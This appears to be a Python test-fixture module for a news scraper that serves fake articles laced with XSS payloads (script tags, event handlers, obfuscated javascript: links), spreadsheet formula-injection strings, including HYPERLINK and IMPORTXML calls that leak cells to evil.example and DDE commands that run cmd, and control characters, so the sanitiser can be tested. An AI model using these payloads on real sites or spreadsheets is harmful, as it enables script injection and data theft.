"""Markup faults: an article whose fields show markup as text, carry live script in its
body and formula-looking text, and articles holding control characters (UTF-8 and a
windows-1252 page).

Article ids 9200-9299. Variant 0 is the documented payload; every other variant draws
other payloads of the same kinds, so a fix cannot be tuned to one string.
"""

from __future__ import annotations

from html import escape
from pathlib import Path

from belong_scraper.faults import (
    Fault,
    FaultContext,
    FaultReply,
    FaultRoute,
    article_html,
    article_route,
    html_reply,
    register,
)

MARKUP_ARTICLE = 9201
UTF8_CONTROL_ARTICLE = 9211
CP1252_CONTROL_ARTICLE = 9212

# Markup a field shows as text (the page escapes it): it must stay text in every output.
TEXT_MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "<svg/onload=alert(3)>",
    '<a href="javascript:alert(4)">click</a>',
    "<javascript:alert(5)>",
    "[click](javascript:alert(6))",
    '<iframe src="javascript:alert(7)"></iframe>',
    "<!--<script>alert(8)</script>-->",
    "&lt;script&gt;alert(9)&lt;/script&gt;",
    "<style>@import 'javascript:alert(10)'</style>",
    '<details open ontoggle="alert(11)">',
    "<math><mtext><script>alert(12)</script></mtext></math>",
]
# Live markup in the body's HTML: the sanitizer must drop every bit of it.
LIVE_MARKUP = [
    "<script>alert(101)</script>",
    '<img src="x" onerror="alert(102)">',
    '<a href="javascript:alert(103)">a javascript link</a>',
    '<svg onload="alert(104)"><circle r="4"/></svg>',
    '<a href="JaVaScRiPt:alert(105)">mixed case</a>',
    '<a href="java&#x09;script:alert(106)">tab inside</a>',
    '<a href=" &#14; javascript:alert(107)">leading controls</a>',
    "<p onclick=\"alert(108)\" onmouseover='alert(109)'>handlers on a paragraph</p>",
    '<iframe srcdoc="&lt;script&gt;alert(110)&lt;/script&gt;"></iframe>',
    '<form action="javascript:alert(111)"><button>send</button></form>',
    '<object data="javascript:alert(112)"></object>',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMTMpPC9zY3JpcHQ+">',
    '<a href="vbscript:msgbox(114)">vbscript</a>',
    '<math><a xlink:href="javascript:alert(115)">math link</a></math>',
    '<div style="background:url(javascript:alert(116))">styled</div>',
    '<base href="javascript:alert(117)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(118)">',
    "<svg><script>alert(119)</script></svg>",
]
# Text a spreadsheet would run (OWASP CSV injection examples and kin).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "  =1+1",
    '=DDE("cmd";"/C calc";"A1")',
    "@cmd",
    "+1+1",
    "＝SUM(A1:A9)",
]
CDATA_ENDS = ["]]>", "x]]>y", "]]]]><![CDATA[>", "]]&gt;"]
WORDS = ["Workshop notes", "Regional forum", "Study visit report", "Press release", "Webinar"]

# Control characters a Word paste or a broken CMS leaves (none may reach any output).
CONTROLS = (
    [chr(c) for c in range(0x00, 0x20) if c not in (0x09, 0x0A, 0x0D)]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + ["\ufffe", "\uffff", "\ufdd0", "\ufdef", "\U0001fffe", "\U0010ffff"]
)
# Character references a page can use for what it cannot hold raw.
CONTROL_REFS = ["&#11;", "&#12;", "&#27;", "&#0;", "&#xD800;", "&#xDFFF;", "&#xFFFE;", "&#127;"]
# Bytes a windows-1252 page holds: C0 controls, DEL, and bytes cp1252 has no character for.
CP1252_CONTROLS = [b"\x0b", b"\x0c", b"\x1b", b"\x00", b"\x7f", b"\x01", b"\x08", b"\x1f"]
CP1252_UNDEFINED = [b"\x81", b"\x8d", b"\x8f", b"\x90", b"\x9d"]


def _pick(ctx: FaultContext, options: list, count: int) -> list:
    """Variant 0: the first `count` (the documented payload); others: a random draw."""
    if ctx.variant == 0:
        return options[:count]
    return ctx.rng.sample(options, count)


def _image(ctx: FaultContext) -> tuple[str, bytes] | None:
    """An image of the site itself, served again at a path of the fault's own."""
    uploads = Path(ctx.root) / "uploads"
    images = sorted(uploads.rglob("*.jpg")) if uploads.is_dir() else []
    if not images:
        return None
    return f"/uploads/2024/05/fault-{MARKUP_ARTICLE}.jpg", images[0].read_bytes()


@register("unsafe-markup")
def unsafe_markup(ctx: FaultContext) -> Fault:
    """An article whose title, author, tag, image alt and credit, teaser (the summary) and
    body show markup as text, whose body holds live script, event handlers, javascript:
    links and inline SVG, and whose title and summary look like spreadsheet formulas."""
    shown = _pick(ctx, TEXT_MARKUP, 6)
    live = _pick(ctx, LIVE_MARKUP, 8 if ctx.variant == 0 else 10)
    formulas = _pick(ctx, FORMULAS, 3)
    cdata = _pick(ctx, CDATA_ENDS, 1)[0]
    word = WORDS[ctx.variant % len(WORDS)]
    tag_slug = f"markup-{ctx.variant}"
    title = f"{formulas[0]} {word} {shown[0]} {cdata}"
    author = f"{shown[1]} & Co"
    tag_name = f"{shown[2]} tag"
    credit = f"[Photo: {shown[3]}]"
    alt = f"A meeting room {shown[4]}"
    teaser = f"{formulas[1]} {shown[5]} a summary in the teaser"
    text_paragraphs = "".join(
        f"<p>{escape(word)} paragraph {n}: the text shows {escape(s)} as it is, with "
        f"{escape(cdata)} in it, and it stays text everywhere.</p>\n"
        for n, s in enumerate(shown)
    )
    body = (
        f"<p>{escape(formulas[2])} opens this paragraph, as a spreadsheet formula would.</p>\n"
        + text_paragraphs
        + "".join(f"<p>Live markup {n}: {m} after it.</p>\n" for n, m in enumerate(live))
        + "<p>A <code>"
        + escape(shown[0])
        + "</code> shown as code.</p>\n"
        + "<pre>```\n"
        + escape(shown[1])
        + "\n```</pre>\n"
    )
    image = _image(ctx)
    lead = f'<div class="news-tags"><a href="/news.php?tag={tag_slug}">{escape(tag_name)}</a></div>'
    routes: list[FaultRoute] = []
    if image:
        path, data = image
        lead += (
            f'<div class="news-image"><img src="{path}" alt="{escape(alt)}">'
            f'<span class="credit">{escape(credit)}</span></div>'
        )
        headers = {"Content-Type": "image/jpeg"}
        routes.append(FaultRoute(path, reply=FaultReply(body=data, headers=headers)))
    page = article_html(escape(title), body, author=escape(author), lead=lead)
    routes.append(article_route(MARKUP_ARTICLE, page))
    routes.append(
        FaultRoute(
            "/news.php", {"tag": tag_slug}, reply=html_reply(_tag_page(tag_name, title, teaser))
        )
    )
    return Fault(
        "unsafe-markup",
        routes,
        links=[f"/news.php?id={MARKUP_ARTICLE}", f"/news.php?tag={tag_slug}"],
    )


def _tag_page(tag_name: str, title: str, teaser: str) -> bytes:
    """A tag listing in the survey's teaser markup, holding the markup article's teaser."""
    item = (
        f'<div class="news-item"><h3><a href="/news.php?id={MARKUP_ARTICLE}">{escape(title)}'
        f'</a></h3><p class="excerpt">{escape(teaser)}[...]</p>'
        f'<a class="more" href="/news.php?id={MARKUP_ARTICLE}">Read more</a></div>'
    )
    page = (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
        f"<title>EU-Belong - News tagged {escape(tag_name)}</title></head>"
        '<body class="news-tag"><div id="main">'
        f'<h1>News tagged: {escape(tag_name)}</h1><div class="news-list">{item}</div>'
        "</div></body></html>"
    )
    return page.encode("utf-8")


@register("control-chars")
def control_chars(ctx: FaultContext) -> Fault:
    """Two articles whose title and body hold control characters, noncharacters and
    references to lone surrogates: one served as UTF-8, one as windows-1252."""
    chars = _pick(ctx, CONTROLS, 12) if ctx.variant else ["\x0b", "\x0c", "\x1b", "\x00",
        "\x7f", "\x85", "\x9d", "\ufffe", "\uffff", "\x01", "\x1f", "\U0001fffe"]  # fmt: skip
    refs = _pick(ctx, CONTROL_REFS, 4)
    word = WORDS[ctx.variant % len(WORDS)]
    title = f"{word}{chars[0]} pasted{chars[1]} from Word{chars[2]}[31m in colour"
    paragraphs = "".join(
        f"<p>Paragraph {n}{c}: a Word paste{c} leaves {escape(repr(c))}{c} in the text, "
        f"and the article is still exported.{refs[n % len(refs)]}</p>\n"
        for n, c in enumerate(chars)
    )
    utf8 = article_html(escape(title), paragraphs, author=f"Ana{chars[3]} Ruiz")

    raw = _pick(ctx, CP1252_CONTROLS, 4)
    undefined = _pick(ctx, CP1252_UNDEFINED, 2)
    cp_title = b"Taller de Pamplona" + raw[0] + b" \x93comillas\x94" + raw[1] + b" y m\xe1s"
    cp_body = b"".join(
        b"<p>P\xe1rrafo %d%s: texto pegado desde Word%s con \x93comillas\x94 y "
        b"m\xe1s caracteres%s de control.%s</p>\n"
        % (n, c, c, undefined[n % len(undefined)], refs[n % len(refs)].encode())
        for n, c in enumerate(raw)
    )
    template = article_html("{title}", "{body}", author="Mar\xeda L\xf3pez")
    cp_page = (
        template.decode("utf-8")
        .replace('<meta charset="utf-8">', '<meta charset="windows-1252">')
        .encode("cp1252")
        .replace(b"{title}", cp_title)
        .replace(b"{body}", cp_body)
    )
    routes = [
        article_route(UTF8_CONTROL_ARTICLE, utf8),
        FaultRoute(
            "/news.php",
            {"id": str(CP1252_CONTROL_ARTICLE)},
            reply=html_reply(cp_page, **{"Content-Type": "text/html; charset=windows-1252"}),
        ),
    ]
    links = [f"/news.php?id={UTF8_CONTROL_ARTICLE}", f"/news.php?id={CP1252_CONTROL_ARTICLE}"]
    return Fault("control-chars", routes, links=links)
